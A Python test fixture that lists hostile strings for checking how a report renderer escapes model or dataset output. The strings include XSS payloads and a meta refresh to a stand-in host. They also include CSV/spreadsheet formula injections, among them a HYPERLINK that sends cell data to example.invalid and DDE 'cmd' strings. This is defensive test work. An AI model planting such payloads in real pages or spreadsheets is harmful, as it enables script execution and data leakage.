"""What a model or a dataset may say to be run, fetched or noticed by whoever reads the report."""

from __future__ import annotations

from tests.unit.github.corpus import CORPUS

HOSTILE = {
    **{name: text[:3000] for name, text in CORPUS.items()},
    "script": "<script>window.pwned = 1</script>",
    "end of script": '</script><script>window.pwned = 2</script><img src=x onerror="window.pwned = 3">',
    "comment in script": "<!--<script>",
    "end of style and title": "</style></title><svg onload=window.pwned=4>",
    "attribute": '" onmouseover="window.pwned=5" autofocus onfocus="window.pwned=6',
    "link": "<a href='javascript:window.pwned=7'>click</a>",
    "frame": "<iframe srcdoc='<script>parent.pwned=8</script>'></iframe>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://example.invalid/">',
    "separators": "a\u2028b\u2029c\ufeff",
    "template": "{{ page.verdict }} {% raw %} ${1 + 1}",
    "image": "![x](http://example.invalid/pixel.png) ![y][z] [z]: http://example.invalid/a.png",
    "raw image": "<img src=http://example.invalid/pixel.png>",
    "mention": "@octocat and @org/team, see #1 and org/repo#2",
    "table": "| a | b |\n|---|---|\n\\| c \\\\| d",
    "headings": "# One\n\n## Two\n\n---\n\n> quote\n\n- [ ] task",
    "code": "``` \n```mermaid\ngraph TD\n```\n`` ` ``",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "command formula": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line end": "\n=1+1",
    "spaces": "   =1+1",
    "full width": "\uff1d1+1",
    "quote and comma": '","=1+1","',
    "half a pair": "\ud83d",
    "marks": "e\u0301" * 50 + "\u0489" * 50,
    "nothing": "",
}
